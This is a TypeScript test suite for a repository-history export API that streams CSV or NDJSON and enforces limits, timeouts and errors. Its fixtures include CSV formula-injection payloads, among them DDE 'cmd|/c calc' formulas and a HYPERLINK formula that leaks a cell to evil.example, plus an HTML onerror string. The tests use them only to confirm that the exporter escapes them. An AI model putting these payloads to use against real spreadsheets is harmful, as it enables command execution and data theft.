// Exports over HTTP (T33, T37): a file that is made while it is taken, ends with who takes it, and is cut visibly.
import assert from "node:assert/strict";
import { once } from "node:events";
import { get, type IncomingMessage } from "node:http";
import { test } from "node:test";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { parse } from "csv-parse/sync";
import { openApi, startApi, type TestPerson } from "../../../test/helpers/api-server.ts";
import { fillHistory, shaOf } from "../../../test/helpers/filled-history.ts";
import { escapeControls } from "../../domain/safe-text.ts";
import { openExport } from "../../reads/commit-export.ts";
import { createReads } from "../../reads/reads.ts";
import { Problem } from "../contract/contract.ts";
import { until } from "../../../test/helpers/until.ts";

const COMMITS = 3_000;
/** One line of NDJSON has some 4 kB, so that all of them fit into no buffer on the way. */
const note = "x".repeat(240);
const wide = (n: number) => Object.fromEntries(Array.from({ length: 15 }, (_, key) => [`k${key}`, `${n} ${note}`]));

/** All of them, as NDJSON: more than that. A reader that stops may let a few hundred kB be held of it. */
const LEAST_BYTES = 10_000_000;

setFlagsFromString("--expose-gc");
const collect = runInNewContext("gc") as () => void;
const heldBytes = (): number => {
  const { heapUsed, external } = process.memoryUsage();
  return heapUsed + external;
};

const { db, server } = await openApi({ config: { exportLimits: { longestMs: 120_000 } } });
const organization = await db.makeOrganization();
const ada = await server.signIn(organization);
await fillHistory(db.database, organization, {
  name: "o/long",
  commits: Array.from({ length: COMMITS }, (_, n) => ({
    parents: n === 0 ? [] : [n - 1],
    files: { "m.json": { document: n % 10 === 0 ? { n, ...wide(n) } : { n: n - (n % 10), ...wide(n - (n % 10)) } } },
  })),
  branches: [{ name: "main", head: COMMITS - 1 }],
});
const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@a",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\uff1d1",
  "\uff0b1",
  "\uff0d1",
  "\uff20a",
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "@SUM(1+1)*cmd|'/c calc'!A0",
  "-2+3+cmd|'/c calc'!A0",
  "+49 170",
  " \t =1",
  "\u00a0=1",
  "\r\n=1",
  "--1",
  "=\u202e1",
];
await fillHistory(db.database, organization, {
  name: "o/r",
  commits: [
    { parents: [], files: { "m.json": { document: { a: 1, [formulas[0] ?? ""]: -1.5 } } }, subject: "<img onerror=1>" },
    ...formulas.map((subject, n) => ({ parents: [n], files: {}, subject, author: `=${n}` })),
  ],
  branches: [{ name: "feat/x", head: formulas.length }],
});

const path = (query: string, repository = "o%2Flong"): string => `/api/v1/repositories/${repository}/export?${query}`;

async function problemOf(answer: Response): Promise<string> {
  const { status, code, detail } = Problem.parse(await answer.json());
  return `${status} ${code}: ${detail}`;
}

/** Begins to take an export, and reads nothing of it unless it is told to. */
async function begin(who: TestPerson, query: string, origin = server.url): Promise<IncomingMessage> {
  const request = get(origin + path(query), { headers: { cookie: who.cookie }, agent: false });
  const [answer] = (await once(request, "response")) as [IncomingMessage];
  answer.on("error", () => undefined);
  return answer;
}

/** Resolves when an answer is over, with or without an error. */
const closed = (answer: IncomingMessage): Promise<void> => new Promise((resolve) => void answer.on("close", resolve));

/** Asks until an export of hers is begun: the server hears of the end of another one a moment later. */
async function beginsAgain(who: TestPerson, origin = server.url): Promise<void> {
  await until("an export is begun", async () => {
    const answer = await fetch(origin + path("format=csv", "o%2Fr"), { headers: { cookie: who.cookie } });
    await answer.text();
    if (answer.status === 200) return true;
    assert.equal(answer.status, 429);
    return false;
  });
}

const openTransactions = async (): Promise<number> => {
  const rows = await db.database.owner.query<{ count: number }>(
    `SELECT count(*)::int AS count FROM pg_stat_activity
     WHERE datname = current_database() AND application_name = 'tidemark tidemark_web' AND state LIKE 'idle in trans%'`,
    [],
  );
  return rows[0]?.count ?? -1;
};

test("GET …/export sends all commits of a branch as a file, as CSV or NDJSON", async () => {
  for (const [format, type, head] of [
    ["csv", "text/csv; charset=utf-8", 1],
    ["ndjson", "application/x-ndjson; charset=utf-8", 0],
  ] as const) {
    const answer = await ada.fetch(path(`format=${format}`));
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get("content-type"), type);
    assert.match(
      answer.headers.get("content-disposition") ?? "",
      new RegExp(`^attachment; filename="o-long-main.${format}"`),
    );
    assert.equal(answer.headers.get("content-security-policy"), "sandbox; default-src 'none'");
    assert.equal(answer.headers.get("cache-control"), "no-store");
    assert.equal(answer.headers.get("tidemark-commits"), String(COMMITS));
    const lines = (await answer.text()).split("\n");
    assert.equal(lines.pop(), "");
    assert.equal(lines.length, COMMITS + head);
    const shas = lines.slice(head).map((line) => /[0-9a-f]{40}/.exec(line)?.[0]);
    assert.deepEqual(
      shas,
      Array.from({ length: COMMITS }, (_, n) => shaOf("o/long", COMMITS - 1 - n)),
    );
  }
});

test("HEAD …/export tells the heads of the file, and nothing is read or held", async () => {
  for (const format of ["csv", "ndjson"]) {
    const answer = await ada.fetch(path(`format=${format}`));
    for (let times = 0; times < 3; times += 1) {
      // while her export is under way she has no other
      const head = await ada.fetch(path(`format=${format}`), { method: "HEAD" });
      if (times === 0) {
        assert.equal(head.status, 429);
        assert.equal(head.headers.get("retry-after"), "5");
        await answer.text();
        await beginsAgain(ada);
        continue;
      }
      assert.equal(head.status, 200);
      assert.equal(await head.text(), "");
      for (const name of ["content-type", "content-disposition", "tidemark-commits", "cache-control"])
        assert.equal(head.headers.get(name), answer.headers.get(name), name);
      assert.equal(head.headers.get("content-length"), null);
    }
  }
  assert.equal((await ada.fetch(path("format=csv&branch=no"), { method: "HEAD" })).status, 404);
  assert.equal((await ada.fetch(path("format=xml"), { method: "HEAD" })).status, 400);
});

test("openExport() holds no more of a long history than of a short one", async () => {
  const reads = createReads(db.database);
  const { text } = await openExport(reads, organization, "o/long", { format: "ndjson", columns: [] });
  const held: number[] = [];
  let [length, pieces] = [0, 0];
  for await (const piece of text) {
    length += piece.length;
    pieces += 1;
    if (pieces % 16 !== 0) continue;
    collect();
    held.push(process.memoryUsage().heapUsed);
  }
  assert.ok(length > LEAST_BYTES && held.length > 8, `${length} characters in ${held.length} pieces`);
  const half = held.slice(0, held.length / 2);
  const growth = Math.max(...held) - Math.max(...half);
  assert.ok(growth < 2_000_000, `${growth} bytes more in the second half`);
  assert.ok(Math.max(...held) - Math.min(...held) < 8_000_000, "a batch at a time");
});

test("GET …/export takes the columns in the order asked for, and escapes what a spreadsheet would run", async () => {
  const columns = ["m.json:=1+1", "m.json:a"].map((id) => `columns=${encodeURIComponent(id)}`).join("&");
  const text = await (await ada.fetch(path(`format=csv&branch=feat%2Fx&${columns}`, "o%2Fr"))).text();
  const lines = text.split("\n");
  assert.equal(lines[0], "commit,date,author,subject,m.json:=1+1,m.json:a");
  assert.equal(lines.length, formulas.length + 3);
  assert.match(lines.at(-2) ?? "", /,Ada,<img onerror=1>,-1\.5,1$/);
  for (const line of lines.slice(1, -2)) {
    const [, , author = "", subject = ""] = line.split(",");
    assert.match(author, /^'=\d+$/);
    assert.match(subject, /^"?'/, line);
  }
  assert.ok(formulas.length >= 20);
  const name = await ada.fetch(path("format=csv", "o%2Fr"));
  assert.match(name.headers.get("content-disposition") ?? "", /filename="o-r-feat-x\.csv"/);
  await name.text();
});

test("an export is read back equal: CSV by a reader of its own, behind the mark of a text; NDJSON to the character", async () => {
  const query = `branch=feat%2Fx&columns=${encodeURIComponent("m.json:=1+1")}&columns=m.json:a`;
  const csv = await (await ada.fetch(path(`format=csv&${query}`, "o%2Fr"))).text();
  const rows = parse(csv, { columns: true }) as unknown as Record<string, string>[];
  const newest = formulas.toReversed();
  // what would move or hide is written as its code point, as everywhere where people look
  assert.deepEqual(
    rows.map((row) => row["subject"]),
    [...newest.map((subject) => `'${escapeControls(subject)}`), "<img onerror=1>"],
  );
  assert.deepEqual([rows.at(-1)?.["m.json:=1+1"], rows.at(-1)?.["m.json:a"]], ["-1.5", "1"]);
  const ndjson = await (await ada.fetch(path(`format=ndjson&${query}`, "o%2Fr"))).text();
  const objects = ndjson
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line) as { readonly subject: string });
  assert.deepEqual(
    objects.map(({ subject }) => subject),
    [...newest, "<img onerror=1>"],
  );
});

test("GET …/export refuses before it begins", async () => {
  assert.match(await problemOf(await ada.fetch(path(""))), /^400 bad-argument: .*"format": found nothing/);
  assert.match(await problemOf(await ada.fetch(path("format=xlsx"))), /^400 bad-argument: .*one of csv, ndjson/);
  assert.match(
    await problemOf(await ada.fetch(path("format=csv&limit=1"))),
    /^400 bad-argument: .*no such query parameter/,
  );
  assert.match(await problemOf(await ada.fetch(path("format=csv&branch=x"))), /^404 branch-not-found/);
  assert.match(await problemOf(await ada.fetch(path("format=csv&columns=m.json%3Ax"))), /^404 column-not-found/);
  assert.match(await problemOf(await ada.fetch(path("format=csv", "nope"))), /^404 repository-not-found/);
  const where = (filter: string) => ada.fetch(path(`format=csv&where=${encodeURIComponent(filter)}`));
  assert.match(await problemOf(await where("n <")), /^400 bad-filter: .*at character 4/);
  const terms = Array.from({ length: 21 }, () => "n > 1").join(" and ");
  assert.match(await problemOf(await where(terms)), /^400 bad-filter: .*20/);
  assert.match(
    await problemOf(await where(`${"(".repeat(6)}n > 1${")".repeat(6)}`)),
    /^400 bad-filter: .*at character/,
  );
  assert.match(await problemOf(await where(`message ~ "${"x".repeat(1_000)}"`)), /^400 /);
  assert.equal((await (await where('message ~ "%_\\\\"')).text()).split("\n").length, 2, "no wildcards");
  const eve = await server.signIn(await db.makeOrganization("Other"));
  assert.match(await problemOf(await eve.fetch(path("format=csv"))), /^404 repository-not-found/);
  assert.equal((await fetch(server.url + path("format=csv"))).status, 401);
});

test("a person has one export at a time; one that nobody reads holds neither rows nor a transaction, and leaving it ends it", async () => {
  collect();
  const before = heldBytes();
  const first = await begin(ada, "format=ndjson");
  assert.equal(first.statusCode, 200);
  assert.match(
    await problemOf(await ada.fetch(path("format=csv"))),
    /^429 too-many-requests: .*another export of yours/,
  );
  const bob = await server.signIn(organization, "viewer");
  await (await bob.fetch(path("format=csv", "o%2Fr"))).text();
  assert.equal(await openTransactions(), 0);
  collect();
  const growth = heldBytes() - before;
  assert.ok(growth < LEAST_BYTES / 2, `${growth} bytes held of ${LEAST_BYTES}`);
  first.destroy();
  await beginsAgain(ada);
});

test("an export that is left before it begins gives its place back", async () => {
  for (let round = 0; round < 5; round++) {
    const request = get(server.url + path("format=ndjson"), { headers: { cookie: ada.cookie }, agent: false });
    request.on("error", () => undefined);
    await once(request, "finish");
    request.destroy();
  }
  await beginsAgain(ada);
});

test("a process has four exports at a time", async () => {
  const people = await Promise.all(Array.from({ length: 5 }, () => server.signIn(organization)));
  const answers: IncomingMessage[] = [];
  for (const person of people.slice(0, 4)) answers.push(await begin(person, "format=ndjson"));
  const fifth = await people[4]?.fetch(path("format=csv"));
  assert.ok(fifth);
  assert.match(await problemOf(fifth), /^503 server-busy: .*4 exports of others/);
  assert.equal(fifth.headers.get("retry-after"), "5");
  for (const answer of answers) answer.destroy();
});

/** @returns the status of an export on a server that ends each after so long; 500 where it was over before it began */
async function cutAfter(longestMs: number): Promise<number | undefined> {
  const own = await startApi(db, { config: { exportLimits: { longestMs } } });
  try {
    const person = await own.signIn(organization);
    const answer = await begin(person, "format=ndjson", own.url);
    if (answer.statusCode === 200) {
      await beginsAgain(person, own.url); // nothing was read of it, and it is over
      answer.resume();
      await closed(answer);
      assert.equal(answer.complete, false);
    }
    return answer.statusCode;
  } finally {
    await own.close();
  }
}

test("an export that takes too long is cut, so that its reader notices", async () => {
  // the first bytes have to come before that: on a busy machine it takes the longer one
  for (const longestMs of [3_000, 30_000]) {
    if ((await cutAfter(longestMs)) === 200) return;
  }
  assert.fail("no export began");
});

test("an export whose commits go away meanwhile is cut, not shortened", async () => {
  const answer = await begin(ada, "format=ndjson");
  await db.database.owner.query("DELETE FROM git_commit WHERE organization_id = $1 AND position = 5", [organization]);
  let text = "";
  answer.setEncoding("utf8").on("data", (piece: string) => (text += piece));
  await closed(answer);
  assert.equal(answer.complete, false);
  assert.ok(text.split("\n").length < COMMITS);
});
